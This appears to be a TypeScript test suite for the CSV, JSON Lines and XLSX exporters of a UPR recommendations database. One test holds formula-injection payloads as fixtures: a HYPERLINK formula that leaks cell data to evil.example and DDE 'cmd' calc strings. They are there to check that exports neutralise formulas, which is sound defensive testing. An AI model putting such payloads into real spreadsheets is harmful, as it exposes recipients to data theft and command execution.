import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { openStore, importUprInfoRows } from '../store/index.js';
import { parseUprInfoCsv } from '../ingest/index.js';
import { exportPages, exportBytes, writeExport, EXPORT_FORMATS, FLAT_COLUMNS, type ExportFormat, type ExportRecord } from './index.js';
import { neutraliseFormula } from './writers.js';

const HEADER = 'To,To-Rgrp,To-Org,Text,From,From-Rgrp,From-Org,Response,Action,Issue,Session';
const CSV = `${HEADER}
Slovenia,EEG,EU,"Ensure that ""Roma children"", including girls, attend school;
and monitor drop-out.",Côte d'Ivoire,Africa,AU,Accepted,4,"Minorities,Rights of the Child",7
Chad,Africa,AU,Abolish child labour.,France,WEOG,EU,Noted,5,Rights of the Child,5
`;

async function exportTo(format: ExportFormat, csv = CSV, expected = 2): Promise<Buffer> {
  const db = openStore(':memory:');
  importUprInfoRows(db, { kind: 'upr-info-csv', path: 'fixture.csv', fileName: 'fixture.csv', sha256: 'abc', sizeBytes: 1 }, parseUprInfoCsv(csv, 'fixture.csv').value);
  const { pages } = exportPages(db, { filters: {}, baseUrl: 'http://127.0.0.1:8080/' });
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const n = await writeExport(format, pages, out);
  out.end();
  assert.equal(n, expected);
  return Buffer.concat(chunks);
}

describe('export writers', () => {
  it('writes CSV with a BOM, every column, quotes and line breaks kept, and a link per record', async () => {
    const text = (await exportTo('csv')).toString('utf8');
    assert.equal(text.charCodeAt(0), 0xfeff);
    const rows = parse(text.slice(1), { columns: true }) as Record<string, string>[];
    assert.deepEqual(Object.keys(rows[0]!), [...FLAT_COLUMNS]);
    const svn = rows.find((r) => r.state_under_review_iso3 === 'SVN')!;
    assert.equal(svn.text, 'Ensure that "Roma children", including girls, attend school;\nand monitor drop-out.');
    assert.equal(svn.recommending_states, "Côte d'Ivoire");
    assert.equal(svn.source_locator, 'line 2');
    assert.match(svn.url!, /^http:\/\/127\.0\.0\.1:8080\/recommendations\/\d+$/);
  });

  it('writes JSON Lines, one record per line', async () => {
    const lines = (await exportTo('jsonl')).toString('utf8').trim().split('\n').map((l) => JSON.parse(l));
    assert.equal(lines.length, 2);
    assert.deepEqual(lines.map((l) => l.stateUnderReview.iso3).sort(), ['SVN', 'TCD']);
  });

  it('writes an XLSX workbook that a spreadsheet library reads back with the same rows', async () => {
    const wb = new ExcelJS.Workbook();
    const bytes = await exportTo('xlsx');
    // exceljs types `load` against the pre-generic Buffer; hand it the bytes as an ArrayBuffer.
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const ws = wb.getWorksheet('Recommendations')!;
    assert.equal(ws.rowCount, 3);
    assert.deepEqual((ws.getRow(1).values as unknown[]).slice(1), [...FLAT_COLUMNS]);
    const texts = [2, 3].map((i) => String(ws.getRow(i).getCell(FLAT_COLUMNS.indexOf('text') + 1).value));
    assert.ok(texts.includes('Abolish child labour.'));
  });

  it('neutralises spreadsheet formulas in CSV text cells the way OWASP describes (leading apostrophe)', async () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
    ];
    const rows = attacks.map((t) => `Chad,Africa,AU,"${t.replace(/"/g, '""')}",France,WEOG,EU,Accepted,5,Rights of the Child,5`);
    const text = (await exportTo('csv', `${HEADER}\n${rows.join('\n')}\n`, attacks.length)).toString('utf8');
    const cells = (parse(text.slice(1), { columns: true }) as Record<string, string>[]).map((r) => r.text);
    assert.deepEqual(cells.sort(), attacks.map((a) => `'${a}`).sort());
    for (const c of cells) assert.doesNotMatch(c!, /^[=+\-@\t\r]/);
  });

  it('prefixes exactly the cells a spreadsheet would read as formulas', () => {
    const table: [string, string][] = [
      ['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@A1', "'@A1"], ['\t=1+1', "'\t=1+1"], ['\r=1+1', "'\r=1+1"],
      ['Ratify the OPAC', 'Ratify the OPAC'], ['a=b', 'a=b'], ['', ''], ["'quoted", "'quoted"],
    ];
    for (const [input, output] of table) assert.equal(neutraliseFormula(input), output, JSON.stringify(input));
  });

  it('streams each format: bytes reach the reader while most pages are still unread', async () => {
    const db = openStore(':memory:');
    importUprInfoRows(db, { kind: 'upr-info-csv', path: 'fixture.csv', fileName: 'fixture.csv', sha256: 'abc', sizeBytes: 1 }, parseUprInfoCsv(CSV, 'fixture.csv').value);
    const [sample] = (await exportPages(db, { filters: {}, baseUrl: 'http://upr.test' }).pages.next()).value as ExportRecord[];
    for (const format of EXPORT_FORMATS) {
      let pulled = 0;
      async function* pages(): AsyncGenerator<ExportRecord[]> {
        for (let p = 0; p < 40; p++, pulled++) yield Array.from({ length: 250 }, (_, i) => ({ ...sample!, id: p * 250 + i, text: `${sample!.text} ${p}-${i}` }));
      }
      const pulledAtChunk: number[] = [];
      let bytes = 0;
      for await (const chunk of exportBytes(format, pages())) {
        pulledAtChunk.push(pulled);
        bytes += chunk.length;
      }
      assert.equal(pulled, 40);
      assert.ok(pulledAtChunk.filter((p) => p < 20).length >= 2, `${format}: chunks arrived after ${pulledAtChunk.join(',')} pages`);
      assert.ok(bytes > 0);
    }
  });

  it('writes XLSX text that XML cannot carry (control characters) and cells over the spreadsheet limit readably', async () => {
    const db = openStore(':memory:');
    importUprInfoRows(db, { kind: 'upr-info-csv', path: 'fixture.csv', fileName: 'fixture.csv', sha256: 'abc', sizeBytes: 1 }, parseUprInfoCsv(CSV, 'fixture.csv').value);
    const [sample] = (await exportPages(db, { filters: {} }).pages.next()).value as ExportRecord[];
    const texts = ['Bell \u0007 and <b>tags</b> & "quotes"', 'x'.repeat(40000)];
    async function* pages(): AsyncGenerator<ExportRecord[]> {
      yield texts.map((text, i) => ({ ...sample!, id: i + 1, text }));
    }
    const chunks: Uint8Array[] = [];
    for await (const c of exportBytes('xlsx', pages())) chunks.push(c);
    const bytes = Buffer.concat(chunks);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const col = FLAT_COLUMNS.indexOf('text') + 1;
    const ws = wb.getWorksheet('Recommendations')!;
    assert.equal(ws.getRow(2).getCell(col).value, 'Bell  and <b>tags</b> & "quotes"');
    assert.equal(String(ws.getRow(3).getCell(col).value).length, 32767);
  });
});
